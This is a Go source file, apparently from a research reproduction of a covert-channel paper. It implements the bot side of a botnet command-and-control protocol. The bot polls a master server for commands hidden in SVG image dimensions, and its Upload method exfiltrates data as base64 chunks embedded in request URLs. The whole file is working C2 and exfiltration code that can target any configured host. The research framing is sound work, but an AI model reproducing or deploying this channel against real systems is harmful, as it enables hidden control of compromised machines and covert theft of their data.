package cnc

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"strconv"
	"sync"
)

// Bot is the parasite-side endpoint of the covert channel, used over a
// real HTTP connection (the loopback experiments and the cmd/master
// tool). Inside the packet simulation the parasite package reimplements
// the same protocol over httpsim using this package's codec.
type Bot struct {
	// BaseURL is the master's base URL, e.g. "http://127.0.0.1:8080".
	BaseURL string
	// ID identifies the bot to the master.
	ID string
	// Concurrency is the number of parallel image fetches during Poll.
	// The paper's 100 KB/s figure depends on "a client which sends
	// requests for multiple images simultaneously"; 1 disables
	// parallelism (the ablation). Default 8.
	Concurrency int
	// BatchSize is how many covert images ride in one sprite request
	// (the /batch route). It models a browser multiplexing that many
	// simultaneous image fetches over one connection. Default 64; 1
	// degrades to one image per request.
	BatchSize int

	lastSeen int
}

func (b *Bot) concurrency() int {
	if b.Concurrency > 0 {
		return b.Concurrency
	}
	return 8
}

func (b *Bot) batchSize() int {
	if b.BatchSize > 0 {
		return b.BatchSize
	}
	return 64
}

// fetchBody retrieves a channel response body of at most limit bytes.
func (b *Bot) fetchBody(ctx context.Context, url string, limit int64) ([]byte, error) {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, url, nil)
	if err != nil {
		return nil, fmt.Errorf("cnc bot: %w", err)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		return nil, fmt.Errorf("cnc bot fetch: %w", err)
	}
	defer func() { _ = resp.Body.Close() }()
	if resp.StatusCode != http.StatusOK {
		return nil, fmt.Errorf("cnc bot fetch %s: status %d", url, resp.StatusCode)
	}
	body, err := io.ReadAll(io.LimitReader(resp.Body, limit))
	if err != nil {
		return nil, fmt.Errorf("cnc bot read: %w", err)
	}
	return body, nil
}

func (b *Bot) fetchSVG(ctx context.Context, url string) (Dim, error) {
	body, err := b.fetchBody(ctx, url, 4096)
	if err != nil {
		return Dim{}, err
	}
	return ParseSVG(body)
}

// Poll checks the master for a new command. ok is false when nothing new
// is pending.
func (b *Bot) Poll(ctx context.Context) (payload []byte, id int, ok bool, err error) {
	meta, err := b.fetchSVG(ctx, fmt.Sprintf("%s/meta/%s.svg", b.BaseURL, b.ID))
	if err != nil {
		return nil, 0, false, err
	}
	cmdID, count := int(meta.W), int(meta.H)
	if cmdID == 0 || cmdID == b.lastSeen {
		return nil, 0, false, nil
	}
	dims, err := b.fetchImages(ctx, cmdID, count)
	if err != nil {
		return nil, 0, false, err
	}
	data, err := DecodeDims(dims)
	if err != nil {
		return nil, 0, false, err
	}
	b.lastSeen = cmdID
	return data, cmdID, true, nil
}

// fetchImages retrieves the command's image sequence: sprite batches of
// BatchSize images each, fetched in parallel. One sprite request carries
// what would otherwise be BatchSize round trips, so the downstream path
// is no longer re-encoding (and re-fetching) per 4-byte chunk.
func (b *Bot) fetchImages(ctx context.Context, cmdID, count int) ([]Dim, error) {
	dims := make([]Dim, 0, count)
	bs := b.batchSize()
	nBatches := (count + bs - 1) / bs
	batches := make([][]Dim, nBatches)
	errs := make([]error, nBatches)
	sem := make(chan struct{}, b.concurrency())
	var wg sync.WaitGroup
	for bi := 0; bi < nBatches; bi++ {
		wg.Add(1)
		go func(bi int) {
			defer wg.Done()
			sem <- struct{}{}
			defer func() { <-sem }()
			from := bi * bs
			n := bs
			if from+n > count {
				n = count - from
			}
			url := fmt.Sprintf("%s/batch/%s/%d/%d/%d.svg", b.BaseURL, b.ID, cmdID, from, n)
			// The read limit scales with the batch: each tile is at most
			// maxTileLen bytes, so large BatchSize configurations are not
			// silently truncated into tile-count mismatches.
			limit := int64(n*maxTileLen + 256)
			body, err := b.fetchBody(ctx, url, limit)
			if err != nil {
				errs[bi] = err
				return
			}
			got, err := ParseBatchSVG(make([]Dim, 0, n), body)
			if err == nil && len(got) != n {
				err = fmt.Errorf("cnc bot batch %s: %d images, want %d", url, len(got), n)
			}
			batches[bi], errs[bi] = got, err
		}(bi)
	}
	wg.Wait()
	for _, err := range errs {
		if err != nil {
			return nil, err
		}
	}
	for _, batch := range batches {
		dims = append(dims, batch...)
	}
	return dims, nil
}

// Upload exfiltrates data to the master under a stream name, encoded
// entirely in request URLs. Each URL is assembled in one pass — prefix
// and base64 chunk append into a single buffer — instead of
// materialising the chunk string and then formatting it again.
func (b *Bot) Upload(ctx context.Context, stream string, data []byte) error {
	nChunks := (len(data) + DefaultChunkSize - 1) / DefaultChunkSize
	if nChunks == 0 {
		nChunks = 1
	}
	urls := make([]string, nChunks)
	var buf []byte
	for seq := 0; seq < nChunks; seq++ {
		chunk := data[seq*DefaultChunkSize:]
		if len(chunk) > DefaultChunkSize {
			chunk = chunk[:DefaultChunkSize]
		}
		buf = append(buf[:0], b.BaseURL...)
		buf = append(buf, "/up/"...)
		buf = append(buf, b.ID...)
		buf = append(buf, '/')
		buf = append(buf, stream...)
		buf = append(buf, '/')
		buf = strconv.AppendInt(buf, int64(seq), 10)
		buf = append(buf, '/')
		buf = AppendURLChunk(buf, chunk)
		urls[seq] = string(buf)
	}
	sem := make(chan struct{}, b.concurrency())
	errs := make([]error, len(urls))
	var wg sync.WaitGroup
	for seq, url := range urls {
		wg.Add(1)
		go func(seq int, url string) {
			defer wg.Done()
			sem <- struct{}{}
			defer func() { <-sem }()
			errs[seq] = b.get(ctx, url)
		}(seq, url)
	}
	wg.Wait()
	for _, err := range errs {
		if err != nil {
			return err
		}
	}
	return b.get(ctx, fmt.Sprintf("%s/up/%s/%s/fin", b.BaseURL, b.ID, stream))
}

func (b *Bot) get(ctx context.Context, url string) error {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, url, nil)
	if err != nil {
		return fmt.Errorf("cnc bot: %w", err)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		return fmt.Errorf("cnc bot upload: %w", err)
	}
	defer func() { _ = resp.Body.Close() }()
	if _, err := io.Copy(io.Discard, resp.Body); err != nil {
		return fmt.Errorf("cnc bot drain: %w", err)
	}
	if resp.StatusCode != http.StatusOK {
		return fmt.Errorf("cnc bot upload %s: status %d", url, resp.StatusCode)
	}
	return nil
}
